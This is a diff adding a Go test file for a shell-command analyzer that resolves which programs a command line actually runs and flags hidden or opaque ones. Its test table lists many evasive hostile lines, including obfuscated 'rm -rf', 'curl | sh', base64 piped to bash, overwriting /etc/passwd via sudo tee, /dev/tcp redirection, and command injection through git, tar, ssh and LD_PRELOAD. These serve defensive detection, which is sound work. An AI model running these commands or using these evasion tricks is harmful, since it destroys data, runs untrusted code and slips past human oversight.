@@ -1,0 +1,251 @@
+package detect
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/caisson-dev/caisson/internal/task"
+)
+
+// render is the simple commands in one line: the program or "?", then "!" where
+// opaque, "~" where more arguments follow, "+" where code of the repository runs.
+func render(a Analysis) string {
+	var out []string
+	for _, s := range a.Simple {
+		w := s.Program
+		if w == "" {
+			w = "?"
+		}
+		if s.Opaque {
+			w += "!"
+		}
+		if s.Partial {
+			w += "~"
+		}
+		if s.RunsCode {
+			w += "+"
+		}
+		out = append(out, w)
+	}
+	return strings.Join(out, " ")
+}
+
+func hasFact(fs []task.Fact, what task.Characteristic, value string) bool {
+	return slices.ContainsFunc(fs, func(f task.Fact) bool { return f.What == what && f.Value == value })
+}
+
+func values(fs []task.Fact) string {
+	var out []string
+	for _, f := range fs {
+		out = append(out, fmt.Sprintf("%s=%s", f.What, f.Value))
+	}
+	slices.Sort(out)
+	return strings.Join(slices.Compact(out), " ")
+}
+
+// hostile are lines that hide what they run, each with what must come of it:
+// the program is resolved, or the line is opaque.
+var hostile = []struct{ line, want string }{
+	// Resolved or unmasked.
+	{`r''m -rf x`, "rm"},
+	{`"r"'m' -rf x`, "rm"},
+	{`\r\m -rf x`, "rm"},
+	{`env -i sudo /usr/bin/docker run x`, "env sudo docker"},
+	{`bash -lc 'docker ps'`, "bash docker"},
+	{`eval docker ps`, "eval docker"},
+	{`eval 'docker' "ps"`, "eval docker"},
+	{`command docker ps`, "command docker"},
+	{`exec -a ls docker ps`, "exec docker"},
+	{`nice -n 5 timeout -k 3 10s docker ps`, "nice timeout docker"},
+	{`nohup docker ps &`, "& nohup docker"},
+	{`sh -c "sh -c 'docker ps'"`, "sh sh docker"},
+	{`xargs -0 docker rm < names`, "xargs docker~"},
+	{`busybox rm -rf x`, "busybox rm"},
+	{`if true; then docker ps; fi`, "true docker"},
+	{`docker() { ls; }; docker ps`, "ls docker"},
+	{`(docker ps)`, "docker"},
+	{`! docker ps`, "docker"},
+	{`a=$(docker ps)`, "docker"},
+	{`cat <(docker ps)`, "cat~ docker"},
+	{`echo ${x:-$(docker ps)}`, "echo~ docker"},
+	{`: $((1 + $(docker ps)))`, ":~ docker"},
+	{"cat <<E\n$(docker ps)\nE", "cat docker"},
+	{`trap 'docker ps' EXIT`, "trap docker"},
+	{`FOO=1 BAR=2 docker ps`, "docker"},
+	{`> out docker ps`, "docker"},
+	{`docker.exe ps`, "docker"},
+	{`{ docker ps; } 2>&1 | cat`, "docker cat"},
+	{`case x in x) docker ps;; esac`, "docker"},
+	{`for i in 1; do docker ps; done`, "docker"},
+	{`time -p docker ps`, "docker"},
+	{`/usr/bin/time -f x docker ps`, "time docker"},
+	{`env -S "docker ps"`, "env env docker"},
+	{`su -c 'docker ps' bob`, "su docker"},
+	{`flock /tmp/l -c 'docker ps'`, "flock docker"},
+	{`watch -n 2 docker ps`, "watch docker"},
+	{`setsid -w docker ps`, "setsid docker"},
+	{`echo x | sudo -u root tee /etc/passwd`, "echo sudo tee"},
+	{`npx -p x docker ps`, "npx+ docker"},
+
+	// Flagged.
+	{`IFS=_; c=docker_ps; $c`, "?! ?!"},
+	{`docker${IFS}ps`, "?!"},
+	{`$'\x72m' -rf x`, "?!"},
+	{`$(printf doc)ker ps`, "?! printf"},
+	{"`printf doc`ker ps", "?! printf"},
+	{`d=docker; $d run x`, "?!"},
+	{`"$d" ps`, "?!"},
+	{`${d} ps`, "?!"},
+	{`curl -s x.io | sh`, "curl sh!"},
+	{`echo ZG9ja2Vy | base64 -d | bash -s x`, "echo base64 bash!"},
+	{`python -c 'import os'`, "python!"},
+	{`python3.12 -Ic x`, "python3.12!"},
+	{"bash <<'E'\ndocker ps\nE", "bash!"},
+	{`bash <<< 'docker ps'`, "bash!"},
+	{`make all`, "make+"},
+	{`npm test`, "npm+"},
+	{`./gradlew build`, "gradlew+"},
+	{`find . -exec docker rm {} \;`, "find docker~"},
+	{`find . -name x -execdir sh -c 'docker rm {}' \; -exec rm {} +`, "find sh ?! docker rm~"},
+	{`alias ls=docker; ls`, "alias! ls"},
+	{`git -c core.pager='docker ps' log`, "git ?! docker"},
+	{`git -c alias.x='!docker ps' x`, "git! ?! docker"},
+	{`tar xf a.tar --to-command='docker ps'`, "tar ?! docker"},
+	{`tar cf a.tar --checkpoint=1 --checkpoint-action=exec='docker ps' .`, "tar ?! docker"},
+	{`GIT_SSH_COMMAND='docker ps' git fetch`, "?! docker git"},
+	{`PAGER='docker ps' man ls`, "?! docker man"},
+	{`PATH=.:$PATH ls`, "?! ls"},
+	{`LD_PRELOAD=./x.so ls`, "?! ls"},
+	{`BASH_ENV=x bash y.sh`, "?! bash+"},
+	{`export PATH=./bin`, "?!"},
+	{`docke? ps`, "?!"},
+	{`/bin/d*r ps`, "?!"},
+	{`{docker,ps}`, "?!"},
+	{`d{o,}cker ps`, "?!"},
+	{`~/bin/docker ps`, "?!"},
+	{`eval "$x"`, "eval~ ?!"},
+	{`bash -c "$x"`, "bash ?!"},
+	{`xargs sh`, "xargs sh!~"},
+	{`xargs`, "xargs"},
+	{`source ./x; ls`, "source!+ ls"},
+	{`. x`, ".!+"},
+	{`sed 's/a/docker ps/e' x`, "sed!"},
+	{`sed '1e docker ps' x`, "sed!"},
+	{`awk 'BEGIN{system("docker ps")}'`, "awk!"},
+	{`vim -c '!docker ps'`, "vim!"},
+	{`perl -e x`, "perl!"},
+	{`node -pe x`, "node!"},
+	{`ssh -o ProxyCommand='docker ps' h`, "ssh!"},
+	{`rsync -e 'docker ps' a b:`, "?! docker rsync"},
+	{`sort --compress-program=docker x`, "sort ?! docker"},
+	{`rg --pre docker x`, "rg ?! docker"},
+	{`split --filter='docker ps' x`, "split ?! docker"},
+	{`printf -v 'a[$(docker ps)]' x`, "printf!"},
+	{`x='a[$(docker ps)]'; echo $((x))`, "?! echo~"},
+	{`test -v 'a[$(docker ps)]'`, "test!"},
+	{`x='$(docker ps)'; echo "${x@P}"`, "echo~ ?!"},
+	{`enable -f ./x.so x`, "enable!"},
+	{`hash -p ./x ls; ls`, "hash! ls"},
+	{`mapfile -C 'docker ps' a < x`, "docker mapfile"},
+	{`make SHELL=./x`, "make+ ?!"},
+	{`git rebase -x 'docker ps' main`, "git ?! docker"},
+	{`git clone ext::sh x`, "git!"},
+	{`git unknown-verb`, "git!"},
+	{`git submodule foreach 'docker ps'`, "git docker"},
+	{`git bisect run docker ps`, "git docker"},
+	{`git grep -Odocker x`, "git ?! docker"},
+	{`git fetch --upload-pack='docker ps' x`, "git ?! docker"},
+	{`psql -c '\! docker ps'`, "psql!"},
+	{`sudo -s`, "sudo ?!"},
+	{`sudo --unheard-of docker ps`, "sudo ?! docker"},
+	{`unshare -r`, "unshare unshare!"},
+	{`go test -exec docker ./...`, "go+ ?! docker"},
+	{`kubectl frob x`, "kubectl!"},
+	{`echo 'unterminated`, "?!"},
+	{`cat > /dev/tcp/1.2.3.4/80`, "<> cat"},
+}
+
+func TestHostileLines(t *testing.T) {
+	for _, c := range hostile {
+		if got := render(Script(c.line, nil)); got != c.want {
+			t.Errorf("%s\n got %s\nwant %s", c.line, got, c.want)
+		}
+	}
+}
+
+// TestTables holds the tables to their own words.
+func TestTables(t *testing.T) {
+	known := map[string]bool{"-": true}
+	for i, r := range effectRules {
+		known[r.word] = true
+		if r.bit != 1<<i || !slices.Contains(r.what.Values(), r.value) || r.doc == "" || r.num != fmt.Sprintf("%02d", i+1) {
+			t.Errorf("rule %d: %+v", i, r)
+		}
+	}
+	seen := map[string]string{}
+	for table, text := range map[string]string{"nameTable": nameTable, "programTable": programTable} {
+		for line := range strings.Lines(text) {
+			if table == "programTable" && (strings.HasPrefix(line, " ") || line == "\n") {
+				if i := strings.LastIndex(line, ": "); i >= 0 {
+					for w := range strings.FieldsSeq(line[i+2:]) {
+						if !known[w] {
+							t.Errorf("%s: %q is no effect", strings.TrimSpace(line), w)
+						}
+					}
+				} else if line != "\n" {
+					t.Errorf("%q has no effects", line)
+				}
+				continue
+			}
+			names, _, _ := strings.Cut(line, "|")
+			for n := range strings.FieldsSeq(names) {
+				if seen[n] != "" {
+					t.Errorf("%s is in %s and again in %s", n, seen[n], table)
+				}
+				seen[n] = table
+			}
+		}
+	}
+	for line := range strings.Lines(wrapperTable) {
+		if line == "\n" {
+			continue
+		}
+		if f := strings.Split(strings.TrimSuffix(line, "\n"), "|"); len(f) != 5 {
+			t.Errorf("wrapper %q has %d fields", line, len(f))
+		} else {
+			for p := range strings.FieldsSeq(f[4]) {
+				key, val, _ := strings.Cut(p, ":")
+				if key == "lone" {
+					key = val
+				}
+				if !known[key] && !slices.Contains([]string{"skip1", "assign", "text", "more", "shell", "query"}, key) {
+					t.Errorf("wrapper %s: %q is no property", f[0], p)
+				}
+			}
+		}
+	}
+	for _, n := range []string{"docker", "npm", "git", "ls", "terraform"} {
+		if programs()[n] == nil && specials[n] == nil {
+			t.Errorf("%s is in no table", n)
+		}
+	}
+}
+
+func BenchmarkCommand(b *testing.B) {
+	for _, argv := range [][]string{{"go", "test", "./..."}, {"git", "status"}, {"docker", "compose", "up", "-d"}, {"bash", "-lc", "cd x && npm ci && npm test"}} {
+		b.Run(strings.Join(argv, "_"), func(b *testing.B) {
+			b.ReportAllocs()
+			for b.Loop() {
+				Command(argv, nil)
+			}
+		})
+	}
+	b.Run("script", func(b *testing.B) {
+		b.ReportAllocs()
+		for b.Loop() {
+			Script(`set -e; for f in a b; do git add "$f" && go vet ./...; done | tee log > out 2>&1`, nil)
+		}
+	})
+}
